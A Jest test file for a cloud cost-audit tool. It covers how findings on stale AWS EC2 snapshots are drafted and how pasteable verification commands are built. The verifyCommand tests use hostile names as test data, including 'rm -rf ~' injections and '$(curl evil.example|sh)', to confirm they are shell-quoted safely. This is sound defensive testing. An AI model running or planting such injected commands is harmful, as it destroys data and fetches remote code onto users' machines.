import { createHash } from 'node:crypto';
import { describe, expect, it } from '@jest/globals';
import { evidenceSchema } from '@vitrine/contracts';
import { awsEc2InstanceIdleRule } from '../cost/aws/ec2/instance-idle.rule.js';
import { awsEc2SnapshotStaleFixture } from '../cost/aws/ec2/snapshot-stale.fixture.js';
import { awsEc2SnapshotStaleRule } from '../cost/aws/ec2/snapshot-stale.rule.js';
import { judgeCase } from '../testing/judge-case.js';
import { draftFinding, fingerprintOf, operationsOfRule } from './finding-draft.js';
import { shellWord, verifyCommand } from './verify-command.js';

const hash = (text: string): string => createHash('sha256').update(text).digest('hex');
const rule = awsEc2SnapshotStaleRule;
const [ours, theirs] = ['0198f3a0-0000-7000-8000-00000000000a', '0198f3a0-0000-7000-8000-00000000000b'];
const identity = {
  canonicalId: 'arn:aws:ec2:eu-central-1:111122223333:snapshot/snap-1',
  resourceId: 'snap-1',
  name: null,
  accountId: '111122223333',
  region: 'eu-central-1',
  tags: {},
};

function draft(connectionId: string, options = {}) {
  const judged = judgeCase(rule, awsEc2SnapshotStaleFixture.fail[0], options);
  return draftFinding({ rule, verdict: judged.verdict, identity, connectionId, hash });
}

describe('draftFinding', () => {
  it('carries what a person needs to recompute and to check the finding (CF-44): source, facts, formula, assumptions, command, remedy', () => {
    const finding = draft(ours);
    expect(finding).toMatchObject({
      verdict: 'fail',
      ruleId: 'aws.ec2.snapshot-stale',
      resourceId: 'snap-1',
      reason: null,
      missingPermission: null,
      bound: 'upper_bound',
      claim: { kind: 'whole' },
    });
    expect(evidenceSchema.parse(finding?.evidence).source).toEqual(['ec2:DescribeSnapshots', 'ec2:DescribeImages', 'ec2:DescribeVolumes']);
    expect(finding?.verify).toBe(
      'aws ec2 describe-snapshots --snapshot-ids snap-1 --region eu-central-1 --query "Snapshots[].[StartTime,VolumeId,Description,StorageTier]"',
    );
    expect(finding?.remedy.rollback).not.toBe('');
  });

  it('keeps an undetermined verdict as a finding without money that names the missing permission', () => {
    const finding = draft(ours, { denied: { images: 'ec2:DescribeImages', volumes: 'ec2:DescribeVolumes' } });
    expect(finding).toMatchObject({
      verdict: 'undetermined',
      reason: 'look_up_denied',
      missingPermission: 'ec2:DescribeImages',
      claim: { kind: 'none' },
      bound: null,
    });
    expect(evidenceSchema.safeParse(finding?.evidence).success).toBe(true);
  });

  it('is nothing for a pass or a not_applicable', () => {
    expect(draftFinding({ rule, verdict: { verdict: 'pass' }, identity, connectionId: ours, hash })).toBeNull();
    expect(draftFinding({ rule, verdict: { verdict: 'not_applicable', because: 'x' }, identity, connectionId: ours, hash })).toBeNull();
  });

  it('has the same fingerprint in every audit and another one for every rule, connection and resource', () => {
    expect(draft(ours)?.fingerprint).toBe(draft(ours)?.fingerprint);
    expect(draft(ours)?.fingerprint).toMatch(/^[0-9a-f]{64}$/);
    // Two organizations that connect the same account never share a fingerprint.
    expect(draft(ours)?.fingerprint).not.toBe(draft(theirs)?.fingerprint);
    expect(fingerprintOf({ ruleId: 'a', connectionId: ours, canonicalId: 'x' }, hash)).not.toBe(
      fingerprintOf({ ruleId: 'b', connectionId: ours, canonicalId: 'x' }, hash),
    );
  });

  it('names the metric operation among the sources of a rule that judges by metrics', () => {
    expect(operationsOfRule(awsEc2InstanceIdleRule)).toEqual(['ec2:DescribeInstances', 'cloudwatch:GetMetricData']);
  });
});

describe('verifyCommand', () => {
  const filled = (name: string): string => verifyCommand('aws iam list-access-keys --user-name {name}', { ...identity, name });

  it('leaves plain ids as they are', () => {
    expect(filled('deploy@example.com')).toBe('aws iam list-access-keys --user-name deploy@example.com');
  });

  it.each(['x; rm -rf ~', '$(curl evil.example|sh)', '`id`', "o'brien", 'a b', 'x\nrm -rf ~', '*', '~root', '--endpoint-url=http://evil.example'])(
    'makes the hostile name %j one quoted word, because people paste the command',
    (name) => {
      const word = filled(name).slice('aws iam list-access-keys --user-name '.length);
      expect(word).toMatch(/^'(?:[^']|'\\'')*'$/);
    },
  );

  it('drops terminal escapes and direction overrides that would hide what is pasted', () => {
    expect(shellWord('a\u001b[2Kb\u202ec')).toBe("'a[2Kbc'");
  });

  it('does not fill a hole that came in with a value', () => {
    expect(verifyCommand('x {name} {region}', { ...identity, name: '{region}' })).toBe("x '{region}' eu-central-1");
  });
});
